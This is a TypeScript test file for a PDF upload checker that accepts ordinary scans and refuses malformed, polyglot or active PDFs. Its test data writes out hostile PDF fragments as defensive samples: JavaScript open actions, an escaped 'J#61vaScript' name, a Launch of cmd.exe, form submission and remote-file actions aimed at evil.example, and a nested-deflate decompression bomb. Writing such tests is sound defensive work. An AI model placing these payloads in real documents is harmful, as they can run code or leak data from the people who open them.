import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { temporaryFolder } from '../../testing/temporary-folder.ts';
import { checkPdf } from './check-pdf.ts';
import { jpeg, packedObjects, pdf } from './testing/build-files.ts';

let folder: ReturnType<typeof temporaryFolder>;
beforeEach(() => {
  folder = temporaryFolder();
});
afterEach(() => folder[Symbol.dispose]());

async function check(content: Buffer | string): Promise<'accepted' | number> {
  const path = join(folder.path, 'sent');
  await writeFile(path, content);
  return checkPdf(path).then(
    () => 'accepted' as const,
    ({ code }) => code,
  );
}
const NOT_A_PDF = 4004006;
const ACTIVE = 4004008;

describe('a PDF is accepted', () => {
  test('as a scanner writes it', async () => {
    const scan = await PDFDocument.create();
    const page = scan.addPage();
    page.drawImage(await scan.embedJpg(await jpeg(300, 400)), { x: 0, y: 0 });
    expect(await check(Buffer.from(await scan.save()))).toBe('accepted');
    expect(await check(Buffer.from(await scan.save({ useObjectStreams: false })))).toBe('accepted');
  });

  test('with a link, and with an outline that goes to a page', async () => {
    const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.cn) >> >>';
    expect(await check(pdf({ objects: [link], catalog: '/OpenAction [3 0 R /Fit]' }))).toBe('accepted');
  });

  // A comment is nothing to a reader of PDF, and the file never becomes a page: it is sent as an attachment.
  test('with a page of HTML in a comment', async () => {
    expect(await check(pdf({ head: '%<html><script>alert(1)</script>\n' }))).toBe('accepted');
  });
});

describe('no PDF is', () => {
  test.each([
    ['a text', 'a text'],
    ['an empty file', ''],
    ['its first line alone', '%PDF-1.7\n'],
    ['a frame without objects', '%PDF-1.7\nstartxref\n0\n%%EOF\n'],
    ['a PDF with something before it', Buffer.concat([Buffer.from('PK\x03\x04'), pdf()])],
    ['a PDF with a script behind it', Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')])],
    ['a PDF with a ZIP behind it', Buffer.concat([pdf(), Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`)])],
    ['a PDF in the comment of a ZIP', pdf({ head: `%PK\x05\x06${'\0'.repeat(16)}\xff\xff\n` })],
    ['the first half of a PDF', pdf().subarray(0, 200)],
    ['a version that there is not', Buffer.from(pdf().toString('latin1').replace('1.7', '9.9'))],
    [
      'a script in an object that is nested too deeply to be read',
      pdf({ objects: [`<< /S /JavaScript /JS (x) /Z ${'['.repeat(100_000)}${']'.repeat(100_000)} >>`] }),
    ],
    [
      'a script in packed objects of which the packing is not known',
      pdf({
        objects: [
          '<< /Type /ObjStm /N 1 /First 4 /Filter /Crypt /Length 30 >>\nstream\n9 0 << /S /JavaScript /JS (x)>>\nendstream',
        ],
      }),
    ],
    [
      'noise between first and last line',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000), Buffer.from('\nstartxref\n9\n%%EOF\n')]),
    ],
  ])('%s', async (_, content) => {
    expect(await check(content)).toBe(NOT_A_PDF);
  });

  // Unpacked it would have two thousand million bytes.
  test('one that unpacks to more than there is memory', async () => {
    const bomb = deflateSync(deflateSync(Buffer.alloc(1_000_000_000, ' '), { level: 9 }), { level: 9 });
    expect(bomb.length).toBeLessThan(100_000);
    const before = process.memoryUsage().rss;
    expect(await check(packedObjects(bomb, '[/FlateDecode /FlateDecode]'))).toBe(NOT_A_PDF);
    expect(process.memoryUsage().rss - before).toBeLessThan(1_500_000_000);
  });
});

describe('a PDF is refused that', () => {
  test.each([
    ['runs a script when it is opened', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
    ['runs a script of its page', { objects: ['<< /AA << /O << /S /JavaScript /JS 5 0 R >> >> >>'] }],
    ['spells the name otherwise', { objects: ['<< /S /J#61vaScript /J#53 (1) >>'] }],
    ['starts a program', { objects: ['<< /S /Launch /F (cmd.exe) >>'] }],
    ['carries a file', { catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }],
    ['sends a form', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }],
    ['opens another file', { objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>'] }],
    ['has a form of XML', { catalog: '/AcroForm << /XFA 4 0 R >>' }],
  ])('%s', async (_, parts) => {
    expect(await check(pdf(parts))).toBe(ACTIVE);
  });

  test('hides its script in packed objects', async () => {
    const hidden = Buffer.from('10 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>');
    expect(await check(packedObjects(deflateSync(hidden), '/FlateDecode'))).toBe(ACTIVE);
  });

  test('is encrypted', async () => {
    const locked = await PDFDocument.create();
    locked.addPage();
    locked.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
    expect(await check(Buffer.from(await locked.save()))).toBe(ACTIVE);
  });
});
